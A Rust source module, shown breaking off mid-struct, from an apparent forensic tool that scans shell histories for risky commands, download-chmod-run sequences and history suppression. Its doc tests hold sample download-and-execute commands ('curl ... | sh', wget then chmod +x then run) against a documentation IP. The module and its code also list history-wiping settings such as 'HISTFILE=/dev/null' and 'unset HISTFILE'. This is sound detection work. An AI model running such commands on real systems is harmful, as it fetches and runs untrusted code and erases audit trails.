//! Shell histories: what every user ran, as bash, zsh, fish, ash/ksh, Python, MySQL, psql and
//! less remember it, classified by the one shared command classifier
//! ([`ferret_core::command::classify`]), and the ways histories are suppressed (T1070.003).
//!
//! [`histories_root`] reads the accounts of the root's `/etc/passwd` (with ferret-accounts'
//! parser) and `/root`, and in every home the history files of each [`Shell`] plus any
//! `HISTFILE` a start-up file sets; [`histories`] does the same work on files already in memory.
//! Every read is sound (core's opens): a history that is a symlink is reported with its target
//! and never followed, a FIFO or device is reported and never opened, a file larger than
//! [`HistoryOptions::max_file_size`] is read up to the cap and marked `cut`.
//!
//! ## Findings
//!
//! | id | severity | ATT&CK | what |
//! |---|---|---|---|
//! | `history.<kind>` (e.g. `history.download-execute`) | the kind's ([`CommandKind::severity`]) | the kind's | one per user and [`CommandKind`]: the lines as evidence (with time where known) |
//! | `history.download-chmod-run` | critical | T1105, T1059.004 | a file downloaded, made executable and run, across lines of one user's history |
//! | `history.symlink` | high (`/dev/null`: high, elsewhere: medium) | T1070.003 | a history file is a symlink (not followed) |
//! | `history.not-regular` | high | T1070.003 | a history file is a FIFO, device or socket (not opened) |
//! | `history.empty` | low | T1070.003 | a history file of an interactive account is empty |
//! | `history.startup-suppressed` | high | T1070.003 | a shell start-up file suppresses history (`HISTFILE=/dev/null`, `HISTSIZE=0`, `unset HISTFILE`, `set +o history`, ...; Ubuntu's `HISTCONTROL=ignoreboth`/`HISTSIZE=1000` are not) |
//!
//! Excerpts are masked ([`ferret_core::command::mask_secrets`]): no password or key leaves in
//! a report. [`HistoryReport::users_without_history`] lists the interactive accounts with no
//! history file at all, for a caller that knows who logged in (login records) to join.

mod format;

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::ffi::OsStr;
use std::io::Read;
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Mutex;

use ferret_core::command::{classify, mask_secrets, CommandKind, Kinds};
use ferret_core::escape::escape;
use ferret_core::fs::Expected;
use ferret_core::{
    Control, DirHandle, ErrorRecord, Evidence, FileKind, Finding, HostRoot, OpenOptions, Severity,
};

pub use format::{parse, Entry, Shell, UnknownShell};

/// Default cap on the bytes read of one history or start-up file.
pub const DEFAULT_MAX_FILE_SIZE: u64 = 16 << 20;
/// Commands kept in [`HistoryReport::commands`]; more are counted, not kept.
pub const MAX_COMMANDS: usize = 1_000_000;
/// Evidence lines kept per finding (the detail gives the total).
const MAX_EVIDENCE: usize = 20;
/// Bytes of a command shown in an excerpt.
const EXCERPT: usize = 300;
/// Lines after a download within which `chmod +x` and a run of the file complete a sequence.
const SEQUENCE_WINDOW: usize = 50;

/// What [`histories_root`] and [`histories`] read and keep.
#[derive(Debug, Clone)]
#[non_exhaustive]
pub struct HistoryOptions {
    /// Only these users (login names); empty: every account.
    pub users: Vec<Vec<u8>>,
    /// Keep every command in [`HistoryReport::commands`], not only the classified ones.
    pub all: bool,
    /// Keep every command whose format records its time too (bash `#epoch` lines, zsh's
    /// extended history, fish's `when:`): what a timeline shows.
    pub timed: bool,
    /// Bytes read of one file at most; the rest is left and the source marked `cut`.
    pub max_file_size: u64,
}

impl Default for HistoryOptions {
    fn default() -> Self {
        HistoryOptions {
            users: Vec::new(),
            all: false,
            timed: false,
            max_file_size: DEFAULT_MAX_FILE_SIZE,
        }
    }
}

/// What a history file turned out to be.
#[derive(Debug, Clone, PartialEq, Eq)]
#[cfg_attr(feature = "serde", derive(serde::Serialize))]
#[cfg_attr(feature = "serde", serde(rename_all = "kebab-case", tag = "state"))]
#[non_exhaustive]
pub enum SourceState {
    /// Read (up to the cap).
    Read,
    /// A regular file of zero bytes.
    Empty,
    /// A symlink, not followed.
    Symlink {
        /// Its target.
        #[cfg_attr(feature = "serde", serde(with = "ferret_core::escaped"))]
        target: Vec<u8>,
    },
    /// A FIFO, device or socket, not opened.
    NotRegular {
        /// `fifo`, `char-device`, ...
        kind: &'static str,
    },
    /// Could not be read (see [`HistoryReport::errors`]).
    Unreadable,
}

/// One history file found.
#[derive(Debug, Clone, PartialEq, Eq)]
#[cfg_attr(feature = "serde", derive(serde::Serialize))]
#[non_exhaustive]
pub struct HistorySource {
    /// The account whose home it is in.
    #[cfg_attr(feature = "serde", serde(with = "ferret_core::escaped"))]
    pub user: Vec<u8>,
    /// Path inside the root (escaped).
    pub path: String,
    /// The format it is read as.
    pub format: Shell,
    /// What it is.
    #[cfg_attr(feature = "serde", serde(flatten))]
    pub state: SourceState,
    /// Commands parsed from it.
    pub commands: u64,
    /// Bytes read.
    pub bytes: u64,
    /// Larger than [`HistoryOptions::max_file_size`]: only the start was read.
    pub cut: bool,
    /// Holds NUL bytes although its format is text (garbage or not a history): read as text.
    pub binary: bool,
    /// Named by a `HISTFILE=` in a start-up file, not a default name.
    pub from_histfile: bool,
}

/// One command of a history, with what it does.
#[derive(Debug, Clone, PartialEq, Eq)]
#[cfg_attr(feature = "serde", derive(serde::Serialize))]
#[non_exhaustive]
pub struct Command {
    /// Whose history.
    #[cfg_attr(feature = "serde", serde(with = "ferret_core::escaped"))]
    pub user: Vec<u8>,
    /// The history file (escaped).
    pub path: String,
    /// 1-based line.
    pub line: u64,
    /// Unix seconds, where the format records it.
    pub time: Option<i64>,
    /// The format.
    pub format: Shell,
    /// The command, secrets masked ([`mask_secrets`]).
    #[cfg_attr(feature = "serde", serde(with = "ferret_core::escaped"))]
    pub command: Vec<u8>,
    /// What it does (empty: nothing the classifier knows).
    pub kinds: Kinds,
}

/// An account whose home is searched ([`histories_root`] takes them from `/etc/passwd`).
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub struct Account {
    /// Login name.
    pub name: Vec<u8>,
    /// User id.
    pub uid: u32,
    /// Home directory.
    pub home: Vec<u8>,
    /// Login shell (empty: `/bin/sh`).
    pub shell: Vec<u8>,
}

impl Account {
    /// An account.
    pub fn new(name: &[u8], uid: u32, home: &[u8], shell: &[u8]) -> Self {
        Account {
            name: name.to_vec(),
            uid,
            home: home.to_vec(),
            shell: shell.to_vec(),
        }
    }

    /// Whether the login shell lets the account log in interactively (not `nologin`, `false`,
    /// `sync`, `halt`, `shutdown`).
    pub fn is_interactive(&self) -> bool {
        let base = self.shell.rsplit(|&b| b == b'/').next().unwrap_or_default();
        !matches!(
            base,
            b"nologin" | b"false" | b"sync" | b"halt" | b"shutdown" | b"true"
        )
    }
}

/// A history file's bytes, for [`histories`].
#[derive(Debug, Clone, Copy)]
#[non_exhaustive]
pub struct HistoryInput<'a> {
    /// Whose history.
    pub user: &'a [u8],
    /// Its path (for evidence).
    pub path: &'a [u8],
    /// The format.
    pub format: Shell,
    /// Its content.
    pub data: &'a [u8],
}

impl<'a> HistoryInput<'a> {
    /// A history in memory.
    pub fn new(user: &'a [u8], path: &'a [u8], format: Shell, data: &'a [u8]) -> Self {
        HistoryInput {
            user,
            path,
            format,
            data,
        }
    }
}

/// What the histories hold.
#[derive(Debug, Clone, Default)]
#[cfg_attr(feature = "serde", derive(serde::Serialize))]
#[non_exhaustive]
pub struct HistoryReport {
    /// Findings (see the [module docs](self)).
    pub findings: Vec<Finding>,
    /// Every history file found, read or not.
    pub sources: Vec<HistorySource>,
    /// Start-up files read for `HISTFILE` and suppression (escaped paths).
    pub startup_files: Vec<String>,
    /// Classified commands (every command with [`HistoryOptions::all`], every timed one with
    /// [`HistoryOptions::timed`]), at most [`MAX_COMMANDS`].
    pub commands: Vec<Command>,
    /// Commands parsed in all.
    pub commands_total: u64,
    /// Commands the classifier flagged.
    pub commands_classified: u64,
    /// Commands parsed but not kept (over [`MAX_COMMANDS`]).
    pub commands_dropped: u64,
    /// Accounts searched.
    pub accounts: u64,
    /// Interactive accounts with no history file at all (for a join with login records).
    #[cfg_attr(feature = "serde", serde(with = "ferret_core::escaped::list"))]
    pub users_without_history: Vec<Vec<u8>>,
    /// Files that could not be read.
    pub errors: Vec<ErrorRecord>,
}

fn path_str(p: &Path) -> String {
    escape(p.as_os_str().as_bytes())
}

/// Reads every account's histories on a host.
///
/// ```
/// use ferret_logs::history::{histories_root, HistoryOptions};
/// use ferret_logs::core::{Control, HostRoot};
/// let t = tempfile::tempdir()?;
/// std::fs::create_dir_all(t.path().join("etc"))?;
/// std::fs::create_dir_all(t.path().join("home/bob"))?;
/// std::fs::write(t.path().join("etc/passwd"), "bob:x:1000:1000::/home/bob:/bin/bash\n")?;
/// std::fs::write(t.path().join("home/bob/.bash_history"), "ls\ncurl -s http://203.0.113.9/x | sh\n")?;
/// let r = histories_root(&HostRoot::new(t.path())?, &HistoryOptions::default(), &Control::new());
/// assert_eq!(r.findings[0].id, "history.download-execute");
/// assert_eq!(r.findings[0].evidence[0].line, Some(2));
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
pub fn histories_root(root: &HostRoot, opts: &HistoryOptions, ctl: &Control) -> HistoryReport {
    let mut report = HistoryReport::default();
    let accounts = accounts(root, &mut report.errors);
    let accounts: Vec<Account> = accounts
        .into_iter()
        .filter(|a| opts.users.is_empty() || opts.users.contains(&a.name))
        .collect();
    report.accounts = accounts.len() as u64;

    // System-wide start-up files.
    let mut system_histfile = None;
    for p in system_startup_files(root, &mut report.errors) {
        if let Some(data) = read_startup(root, &p, opts, &mut report.errors) {
            let s = startup(&p, &data);
            report.findings.extend(s.findings);
            system_histfile = s.histfile.or(system_histfile);
            report.startup_files.push(path_str(&p));
        }
    }

    // Homes, in parallel: each worker reads whole accounts.
    let mut seen_homes = BTreeSet::new();
    let todo: Vec<&Account> = accounts
        .iter()
        .filter(|a| !a.home.is_empty() && seen_homes.insert(a.home.clone()))
        .collect();
    let next = AtomicUsize::new(0);
    let out: Mutex<Vec<(usize, HomeRead)>> = Mutex::new(Vec::new());
    let threads = worker_count(ctl, todo.len());
    std::thread::scope(|s| {
        for _ in 0..threads {
            s.spawn(|| loop {
                if ctl.is_cancelled() {
                    break;
                }
                let i = next.fetch_add(1, Ordering::Relaxed);
                let Some(a) = todo.get(i) else { break };
                let h = read_home(root, a, system_histfile.as_deref(), opts, ctl);
                if let Ok(mut o) = out.lock() {
                    o.push((i, h));
                }
            });
        }
    });
    let mut homes = out.into_inner().unwrap_or_default();
    homes.sort_by_key(|(i, _)| *i);
    if ctl.is_cancelled() {
        report.errors.push(ErrorRecord::new(
            None,
            None,
            "cancelled: histories not all read",
        ));
    }

    let mut inputs: Vec<HistoryInput<'_>> = Vec::new();
    for (i, h) in &homes {
        let Some(a) = todo.get(*i) else { continue };
        report.findings.extend(h.findings.iter().cloned());
        report.errors.extend(h.errors.iter().cloned());
        report.startup_files.extend(h.startup_files.iter().cloned());
        for (src, data) in &h.files {
            if src.state == SourceState::Empty && a.is_interactive() {
                report.findings.push(
                    Finding::new(
                        "history.empty",
                        Severity::Low,
                        "history file is empty",
                        src.path.as_bytes(),
                    )
                    .with_evidence(Evidence::file(src.path.as_bytes()))
                    .with_attack("T1070.003")
                    .with_detail(format!(
                        "{} has an interactive shell ({}); an emptied history can hide what was run",
                        escape(&a.name),
                        escape(&a.shell)
                    )),
                );
            }
            if let Some(d) = data {
                inputs.push(HistoryInput::new(
                    &a.name,
                    src.path.as_bytes(),
                    src.format,
                    d,
                ));
            }
        }
        if a.is_interactive() && h.files.is_empty() {
            report.users_without_history.push(a.name.clone());
        }
        report
            .sources
            .extend(h.files.iter().map(|(s, _)| s.clone()));
    }
    let analysed = histories(&inputs, opts, ctl);
    for s in &mut report.sources {
        s.commands = analysed
            .sources
            .iter()
            .find(|a| a.path == s.path && a.user == s.user)
            .map_or(0, |a| a.commands);
    }
    report.findings.extend(analysed.findings);
    report.commands = analysed.commands;
    report.commands_total = analysed.commands_total;
    report.commands_classified = analysed.commands_classified;
    report.commands_dropped = analysed.commands_dropped;
    report.findings.sort_by(|a, b| {
        b.severity
            .cmp(&a.severity)
            .then_with(|| a.id.cmp(&b.id))
            .then_with(|| a.subject.cmp(&b.subject))
    });
    report
}

/// Worker threads for `useful` units of work: 1 when there is at most one (without asking the
/// system), else `Control::max_threads` or the core count, at most `useful`.
fn worker_count(ctl: &Control, useful: usize) -> usize {
    if useful <= 1 {
        return 1;
    }
    ctl.max_threads
        .unwrap_or_else(|| std::thread::available_parallelism().map_or(1, std::num::NonZero::get))
        .clamp(1, useful)
}

/// Classifies histories already in memory: the commands and the `history.<kind>` and
/// `history.download-chmod-run` findings (tampering needs the files themselves: see
/// [`histories_root`]). [`HistoryOptions::users`] filters the inputs by user.
///
/// ```
/// use ferret_logs::history::{histories, HistoryInput, HistoryOptions, Shell};
/// use ferret_logs::core::Control;
/// let h = b"#1700000000\nwget http://203.0.113.9/x -O /tmp/x\n#1700000010\nchmod +x /tmp/x\n#1700000020\n/tmp/x\n";
/// let r = histories(&[HistoryInput::new(b"eve", b"/home/eve/.bash_history", Shell::Bash, h)],
///     &HistoryOptions::default(), &Control::new());
/// assert!(r.findings.iter().any(|f| f.id == "history.download-chmod-run"));
/// assert_eq!(r.commands_total, 3);
/// ```
pub fn histories(
    inputs: &[HistoryInput<'_>],
    opts: &HistoryOptions,
    ctl: &Control,
) -> HistoryReport {
    let todo: Vec<&HistoryInput<'_>> = inputs
        .iter()
        .filter(|i| opts.users.is_empty() || opts.users.iter().any(|u| u == i.user))
        .collect();
    // Files in parallel (each worker takes whole files); merged below in input order, so the
    // report is the same as a sequential pass.
    let next = AtomicUsize::new(0);
    let out: Mutex<Vec<(usize, Analysed<'_>)>> = Mutex::new(Vec::new());
    let bytes: usize = todo.iter().map(|i| i.data.len()).sum();
    // A thread per 1 MB of history at most: small inputs stay on the caller's thread, without
    // asking for the core count (`available_parallelism` reads four cgroup files per call).
    let threads = worker_count(ctl, (bytes / (1 << 20) + 1).min(todo.len()));
    let work = || {
        let mut mine = Vec::new();
        loop {
            if ctl.is_cancelled() {
                break;
            }
            let i = next.fetch_add(1, Ordering::Relaxed);
            let Some(input) = todo.get(i) else { break };
            mine.push((i, analyse(input, opts)));
        }
        if let Ok(mut o) = out.lock() {
            o.extend(mine);
        }
    };
    if threads <= 1 {
        work();
    } else {
        std::thread::scope(|s| {
            for _ in 0..threads {
                s.spawn(work);
            }
        });
    }
    let mut done = out.into_inner().unwrap_or_default();
    done.sort_by_key(|(i, _)| *i);

    let mut report = HistoryReport::default();
    let mut groups: BTreeMap<(Vec<u8>, CommandKind), Group> = BTreeMap::new();
    let mut sequences: BTreeMap<Vec<u8>, Group> = BTreeMap::new();
    for (i, a) in &done {
        let Some(input) = todo.get(*i) else { continue };
        let path = &a.path;
        report.sources.push(HistorySource {
            user: input.user.to_vec(),
            path: path.clone(),
            format: input.format,
            state: SourceState::Read,
            commands: a.commands,
            bytes: input.data.len() as u64,
            cut: false,
            binary: false,
            from_histfile: false,
        });
        report.commands_total += a.commands;
        for (e, kinds) in &a.kept {
            if !kinds.is_empty() {
                report.commands_classified += 1;
                for k in problems(*kinds).iter() {
                    groups
                        .entry((input.user.to_vec(), k))
                        .or_default()
                        .add(path, e.line, e.time, &e.command);
                }
            }
            if report.commands.len() < MAX_COMMANDS {
                report.commands.push(Command {
                    user: input.user.to_vec(),
                    path: path.clone(),
                    line: e.line,
                    time: e.time,
                    format: input.format,
                    command: mask_secrets(&e.command),
                    kinds: *kinds,
                });
            } else {
                report.commands_dropped += 1;
            }
        }
        for found in &a.sequences {
            let g = sequences.entry(input.user.to_vec()).or_default();
            for (line, time, cmd) in found {
                g.add(path, *line, *time, cmd);
            }
        }
    }
    for ((user, kind), g) in groups {
        let mut f = Finding::new(
            format!("history.{}", kind.id()),
            kind.severity(),
            format!("shell history: {}", kind.title()),
            &user,
        );
        for a in kind.attack() {
            f = f.with_attack(*a);
        }
        report.findings.push(g.finish(f, &user));
    }
    for (user, g) in sequences {
        let f = Finding::new(
            "history.download-chmod-run",
            Severity::Critical,
            "shell history: a file downloaded, made executable and run",
            &user,
        )
        .with_attack("T1105")
        .with_attack("T1059.004");
        report.findings.push(g.finish(f, &user));
    }
    report
}

/// One history file, parsed and classified (the per-file half of [`histories`]).
struct Analysed<'a> {
    path: String,
    /// Commands parsed.
    commands: u64,
    /// The commands the report keeps (classified, or all with [`HistoryOptions::all`]), with
    /// what they do: the others are dropped as soon as the file is classified.
    kept: Vec<(Entry<'a>, Kinds)>,
    sequences: Vec<Vec<(u64, Option<i64>, Vec<u8>)>>,
}

fn analyse<'a>(input: &HistoryInput<'a>, opts: &HistoryOptions) -> Analysed<'a> {
    let entries = parse(input.format, input.data);
    let mut kept = Vec::new();
    // A history repeats itself (`ls`, `git status`, `cd ..`): each distinct command text is
    // classified once per file ([`classify`] is a pure function of the bytes).
    // The same for whether a command names a downloader (where a download, chmod, run
    // sequence can start).
    let mut seen: HashMap<&[u8], (Kinds, bool), foldhash::fast::FixedState> = HashMap::default();
    let wget = memchr::memmem::Finder::new(b"wget");
    let curl = memchr::memmem::Finder::new(b"curl");
    let mut fetches = Vec::new();
    if input.format.is_shell() {
        fetches.reserve(entries.len());
        for (idx, e) in entries.iter().enumerate() {
            let cmd: &[u8] = &e.command;
            let (kinds, fetch) = *seen.entry(cmd).or_insert_with(|| {
                let fetch = wget.find(cmd).is_some() || curl.find(cmd).is_some();
                (classify(cmd), fetch)
            });
            fetches.push(fetch);
            if !kinds.is_empty() || opts.all || (opts.timed && e.time.is_some()) {
                kept.push((idx, kinds));
            }
        }
    } else if opts.all || opts.timed {
        kept.extend(
            entries
                .iter()
                .enumerate()
                .filter(|(_, e)| opts.all || e.time.is_some())
                .map(|(i, _)| (i, Kinds::default())),
        );
    }
    drop(seen);
    let sequences = if input.format.is_shell() {
        sequence_in(&entries, &fetches)
            .into_iter()
            .map(|found| {
                found
                    .into_iter()
                    .map(|(line, time, cmd)| (line, time, cmd.to_vec()))
                    .collect()
            })
            .collect()
    } else {
        Vec::new()
    };
    let commands = entries.len() as u64;
    let mut kept = kept.into_iter().peekable();
    let kept = entries
        .into_iter()
        .enumerate()
        .filter_map(|(idx, e)| {
            kept.next_if(|(k, _)| *k == idx)
                .map(|(_, kinds)| (e, kinds))
        })
        .collect();
    Analysed {
        path: escape(input.path),
        commands,
        kept,
        sequences,
    }
}

/// The kinds a line gets findings for: a download inside a download-and-run, or a decoding
/// inside a decode-and-run, is the same problem, reported once (as the stronger kind).
fn problems(k: Kinds) -> Kinds {
    let mut out = Kinds::default();
    for kind in k.iter() {
        let covered = match kind {
            CommandKind::Download => k.contains(CommandKind::DownloadExecute),
            CommandKind::Decode => k.contains(CommandKind::DecodeExecute),
            _ => false,
        };
        if !covered {
            out.insert(kind);
        }
    }
    out
}

/// Evidence lines of one finding.
#[derive(Debug, Default)]
struct Group {
    lines: Vec<Evidence>,
    total: u64,
    first: Option<i64>,
    last: Option<i64>,
}

impl Group {
    fn add(&mut self, path: &str, line: u64, time: Option<i64>, cmd: &[u8]) {
        self.total += 1;
        if let Some(t) = time {
            self.first = Some(self.first.map_or(t, |f| f.min(t)));
            self.last = Some(self.last.map_or(t, |l| l.max(t)));
        }
        if self.lines.len() < MAX_EVIDENCE {
            let mut masked = mask_secrets(cmd.get(..EXCERPT.min(cmd.len())).unwrap_or(cmd));
            if cmd.len() > EXCERPT {
                masked.extend_from_slice(b"...");
            }
            let mut ex = time
                .map(|t| format!("[{}] ", show_time(t)))
                .unwrap_or_default()
                .into_bytes();
            ex.extend_from_slice(&masked);
            self.lines.push(Evidence::line(path, line).with_excerpt(ex));
        }
    }

    fn finish(self, mut f: Finding, user: &[u8]) -> Finding {
        let span = match (self.first, self.last) {
            (Some(a), Some(b)) if a != b => format!(", {} to {}", show_time(a), show_time(b)),
            (Some(a), _) => format!(", at {}", show_time(a)),
            _ => String::new(),
        };
        let shown = if self.total > self.lines.len() as u64 {
            format!(" (first {} shown)", self.lines.len())
        } else {
            String::new()
        };
        f = f.with_detail(format!(
            "{}: {} line(s){span}{shown}",
            escape(user),
            self.total
        ));
        for e in self.lines {
            f = f.with_evidence(e);
        }
        f
    }
}

fn show_time(t: i64) -> String {
    jiff::Timestamp::from_second(t).map_or_else(|_| t.to_string(), |ts| ts.to_string())
}

/// A step of a download, chmod, run sequence: line, time, command.
type Step<'a> = (u64, Option<i64>, &'a [u8]);

/// Words of a simple command (whitespace split, quotes dropped): enough to name files.
fn words(cmd: &[u8]) -> Vec<&[u8]> {
    cmd.split(|b| b.is_ascii_whitespace() || matches!(b, b';' | b'&' | b'|'))
        .map(<[u8]>::trim_ascii_start)
        .map(|w| {
            let w = w.strip_prefix(b"\"").unwrap_or(w);
            let w = w.strip_suffix(b"\"").unwrap_or(w);
            let w = w.strip_prefix(b"'").unwrap_or(w);
            w.strip_suffix(b"'").unwrap_or(w)
        })
        .filter(|w| !w.is_empty())
        .collect()
}

fn basename(w: &[u8]) -> &[u8] {
    let w = w.split(|&b| b == b'?' || b == b'#').next().unwrap_or(w);
    w.rsplit(|&b| b == b'/').next().unwrap_or(w)
}

/// The file names a `wget`/`curl` command writes.
fn downloaded(w: &[&[u8]]) -> Vec<Vec<u8>> {
    let Some(pos) = w
        .iter()
        .position(|x| matches!(basename(x), b"wget" | b"curl"))
    else {
        return Vec::new();
    };
    let tool = basename(w.get(pos).copied().unwrap_or_default());
    let args = w.get(pos + 1..).unwrap_or_default();
    let mut out = Vec::new();
    let mut explicit = false;
    let mut it = args.iter().peekable();
    while let Some(a) = it.next() {
        if let Some(v) = a
            .strip_prefix(b"--output-document=")
            .or_else(|| a.strip_prefix(b"--output="))
        {
            out.push(basename(v).to_vec());
            explicit = true;
        } else if matches!(*a, b"-O" | b"-o" | b"--output-document" | b"--output") {
            if let Some(v) = it.next() {
                if *v != b"-" {
                    out.push(basename(v).to_vec());
                }
                explicit = true;
            }
        } else if a.len() > 2 && (a.starts_with(b"-O") || (tool == b"curl" && a.starts_with(b"-o")))
        {
            out.push(basename(a.get(2..).unwrap_or_default()).to_vec());
            explicit = true;
        }
    }
    if !explicit {
        // wget URL and curl -O URL save under the URL's last segment.
        let remote = tool == b"wget" || args.iter().any(|a| *a == b"-O" || *a == b"--remote-name");
        if remote {
            for a in args {
                if memchr::memmem::find(a, b"://").is_some() {
                    out.push(basename(a).to_vec());
                }
            }
        }
    }
    out.retain(|n| !n.is_empty() && n.as_slice() != b"-");
    out
}

fn is_chmod_x(w: &[&[u8]]) -> Option<usize> {
    let pos = w.iter().position(|x| basename(x) == b"chmod")?;
    let mode = w.get(pos + 1)?;
    let exec = mode.contains(&b'x')
        || (mode.iter().all(u8::is_ascii_digit)
            && mode
                .last()
                .is_some_and(|d| (d - b'0') & 1 == 1 || mode.len() >= 3));
    exec.then_some(pos + 2)
}

/// Download, then `chmod +x`, then run, of one file name, across a user's history (within
/// [`SEQUENCE_WINDOW`] commands).
///
/// `fetches[i]`: whether command `i` contains `wget` or `curl` (only such a line can start a
/// sequence; a missing value counts as yes).
fn sequence_in<'e>(entries: &'e [Entry<'e>], fetches: &[bool]) -> Vec<Vec<Step<'e>>> {
    let mut found = Vec::new();
    let mut open: Vec<(usize, Vec<u8>, Step<'e>, Option<Step<'e>>)> = Vec::new();
    for (idx, e) in entries.iter().enumerate() {
        let cmd: &'e [u8] = &e.command;
        open.retain(|(start, ..)| idx - start <= SEQUENCE_WINDOW);
        // With no download open, only a line naming a downloader can start one.
        if open.is_empty() && !fetches.get(idx).copied().unwrap_or(true) {
            continue;
        }
        let w = words(cmd);
        let here: Step<'e> = (e.line, e.time, cmd);
        // Run: the first word (or the script of sh/bash) names a chmodded download.
        let prog = match w.first().map(|x| basename(x)) {
            Some(b"sh" | b"bash" | b"nohup" | b"sudo" | b"exec") => w.get(1),
            _ => w.first(),
        };
        let mut done = None;
        if let Some(p) = prog {
            if p.contains(&b'/') {
                done = open
                    .iter()
                    .position(|(_, name, _, ch)| ch.is_some() && basename(p) == name.as_slice());
            }
        }
        if let Some(i) = done {
            let (_, _, dl, ch) = open.remove(i);
            if let Some(ch) = ch {
                found.push(vec![dl, ch, here]);
            }
            continue;
        }
        if let Some(from) = is_chmod_x(&w) {
            for f in w.get(from..).unwrap_or_default() {
                for o in &mut open {
                    if o.3.is_none() && basename(f) == o.1.as_slice() {
                        o.3 = Some(here);
                    }
                }
            }
        }
        for name in downloaded(&w) {
            open.push((idx, name, here, None));
        }
        // `wget ... && chmod +x x && ./x` on one line is the classifier's download-execute.
    }
    found
}

/// Start-up files in a home that may set `HISTFILE` or suppress history.
const USER_STARTUP: &[&str] = &[
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".zprofile",
    ".zlogin",
    ".kshrc",
    ".mkshrc",
    ".config/fish/config.fish",
];

/// System start-up files (and every file of `/etc/profile.d`).
const SYSTEM_STARTUP: &[&str] = &[
    "/etc/profile",
    "/etc/bash.bashrc",
    "/etc/bashrc",
    "/etc/environment",
    "/etc/zsh/zshrc",
    "/etc/zsh/zshenv",
    "/etc/zsh/zprofile",
    "/etc/zsh/zlogin",
    "/etc/zshrc",
    "/etc/zshenv",
    "/etc/zprofile",
    "/etc/ksh.kshrc",
    "/etc/mkshrc",
];

/// The accounts of `/etc/passwd`, and root's `/root` when no account has it.
fn accounts(root: &HostRoot, errors: &mut Vec<ErrorRecord>) -> Vec<Account> {
    let mut out = Vec::new();
    match root.read_optional("/etc/passwd") {
        Ok(Some(data)) => {
            for line in ferret_accounts::passwd::parse(&data) {
                match &line.content {
                    Ok(_) => {
                        if let Some(e) = line.entry() {
                            out.push(Account::new(e.name, e.uid, e.home, e.shell));
                        }
                    }
                    Err(m) => errors.push(ErrorRecord::new(
                        Some(b"/etc/passwd"),
                        Some(line.number),
                        m.to_string(),
                    )),
                }
            }
        }
        Ok(None) => {}
        Err(e) => errors.push(ErrorRecord::from(&e)),
    }
    if !out.iter().any(|a| a.home == b"/root") {
        out.push(Account::new(b"root", 0, b"/root", b"/bin/sh"));
    }
    out
}

fn system_startup_files(root: &HostRoot, errors: &mut Vec<ErrorRecord>) -> Vec<PathBuf> {
    let mut out: Vec<PathBuf> = SYSTEM_STARTUP.iter().map(PathBuf::from).collect();
    match root.read_dir("/etc/profile.d") {
        Ok(ents) => out.extend(
            ents.into_iter()
                .filter(|e| matches!(e.kind, Some(FileKind::Regular) | None))
                .map(|e| Path::new("/etc/profile.d").join(e.name)),
        ),
        Err(e) if e.is_not_found() => {}
        Err(e) => errors.push(ErrorRecord::from(&e)),
    }
    out
}

/// Reads a start-up file soundly; absent (or a symlink, which is not followed) is `None`.
fn read_startup(
    root: &HostRoot,
    p: &Path,
    opts: &HistoryOptions,
    errors: &mut Vec<ErrorRecord>,
) -> Option<Vec<u8>> {
    match root.read_capped(p, opts.max_file_size) {
        Ok(d) => Some(d),
        Err(e) if e.is_not_found() => None,
        Err(ferret_core::Error::WrongKind { .. }) => None,
        Err(e) => {
            errors.push(ErrorRecord::from(&e));
            None
        }
    }
}

/// What a start-up file says about history.
#[derive(Debug, Default)]
struct Startup {
    findings: Vec<Finding>,
    /// The last `HISTFILE=` that names a file (`~/` for the home), not `/dev/null`.
    histfile: Option<Vec<u8>>,
}

/// Strips `export`, `declare -x`, `typeset`, `readonly`, `local` before an assignment.
fn assignment(l: &[u8]) -> &[u8] {
    let mut l = l.trim_ascii_start();
    for p in [
        &b"export "[..],
        b"declare -x ",
        b"declare -gx ",
        b"declare ",
        b"typeset -x ",
        b"typeset ",
        b"readonly ",
        b"local ",
        b"set -gx ",
        b"set -x ",
    ] {
        if let Some(r) = l.strip_prefix(p) {
            l = r.trim_ascii_start();
        }
    }
    l
}

fn unquote(v: &[u8]) -> &[u8] {
    let v = v.trim_ascii();
    let v = v.split(|&b| b == b';' || b == b' ').next().unwrap_or(v);
    for q in [b'"', b'\''] {
        if let Some(i) = v.strip_prefix(&[q]).and_then(|r| r.strip_suffix(&[q])) {
            return i;
        }
    }
    v
}

/// Scans a start-up file: lines the classifier calls history evasion, and `HISTFILE=`.
fn startup(p: &Path, data: &[u8]) -> Startup {
    let mut s = Startup::default();
    let path = path_str(p);
    let mut hits: Vec<(u64, &[u8])> = Vec::new();
    for (n, line) in data.split(|&b| b == b'\n').enumerate() {
        let l = line.trim_ascii();
        if l.is_empty() || l.starts_with(b"#") {
            continue;
        }
        if classify(l).contains(CommandKind::HistoryEvasion) {
            hits.push((n as u64 + 1, l));
            continue;
        }
        let a = assignment(l);
        if let Some(v) = a
            .strip_prefix(b"HISTFILE=")
            .or_else(|| a.strip_prefix(b"HISTFILE "))
        {
            let v = unquote(v);
            let home_rel = [&b"~/"[..], b"$HOME/", b"${HOME}/"]
                .iter()
                .find_map(|pre| v.strip_prefix(*pre));
            s.histfile = match home_rel {
                Some(r) => Some([&b"~/"[..], r].concat()),
                // Not system files (a HISTFILE=/etc/shadow must not put hashes in a report).
                None if v.starts_with(b"/")
                    && ![&b"/dev/"[..], b"/etc/", b"/proc/", b"/sys/", b"/boot/"]
                        .iter()
                        .any(|p| v.starts_with(p)) =>
                {
                    Some(v.to_vec())
                }
                None => s.histfile.take(),
            };
        }
    }
    if !hits.is_empty() {
        let mut f = Finding::new(
            "history.startup-suppressed",
            Severity::High,
            "a shell start-up file suppresses or clears history",
            path.as_bytes(),
        )
        .with_attack("T1070.003")
        .with_detail(format!("{} line(s)", hits.len()));
        for (n, l) in hits.into_iter().take(MAX_EVIDENCE) {
            f = f.with_evidence(
                Evidence::line(path.as_bytes(), n)
                    .with_excerpt(mask_secrets(l.get(..EXCERPT.min(l.len())).unwrap_or(l))),
            );
        }
        s.findings.push(f);
    }
    s
}

/// What one home held.
#[derive(Debug, Default)]
struct HomeRead {
    files: Vec<(HistorySource, Option<Vec<u8>>)>,
    findings: Vec<Finding>,
    errors: Vec<ErrorRecord>,
